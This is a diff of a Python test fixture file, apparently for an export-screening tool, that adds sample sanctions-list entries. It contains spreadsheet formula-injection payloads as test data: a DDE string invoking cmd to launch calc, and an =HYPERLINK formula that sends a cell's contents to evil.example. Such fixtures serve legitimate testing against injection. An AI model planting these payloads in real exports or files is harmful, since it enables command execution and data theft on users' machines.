@@ -26,6 +26,20 @@ HOSTILE_COMPANY = "-2+3+cmd|' /C calc'!A0"
 LISTED_COMPANY = "co:export test:EXP001"
 OWNED_COMPANY = "co:export test:EXP002"
 MEU_ENTRY = "list:US_MEU:MEU:66f6ab3f26234b75a9093fce79ef0ce0"
+#: The CSL excerpt's DTC row, no type published: ingest reads "Cesareo Estanislao Benitez" as a person.
+DTC_PERSON = "list:US_DTC:DTC:34d6611355974b0ba70eba9a096971f8"
+#: A list entry whose kind was read from its name, with evidence a spreadsheet would evaluate (a
+#: store written by another tool or edited by hand): for the small risk world of tests/graph/risk.
+NAME_KIND_ENTRY = {
+    "id": "list:US_EL:P1",
+    "name": "IVAN PETROV",
+    "list": "US_EL",
+    "status": "active",
+    "countries": ["RU"],
+    "entity_kind": "person",
+    "kind_source": "name",
+    "kind_evidence": '=HYPERLINK("http://evil.example/?d="&A1,"why")',
+}
 
 
 def build_export_workspace(workspace: Path) -> Settings:
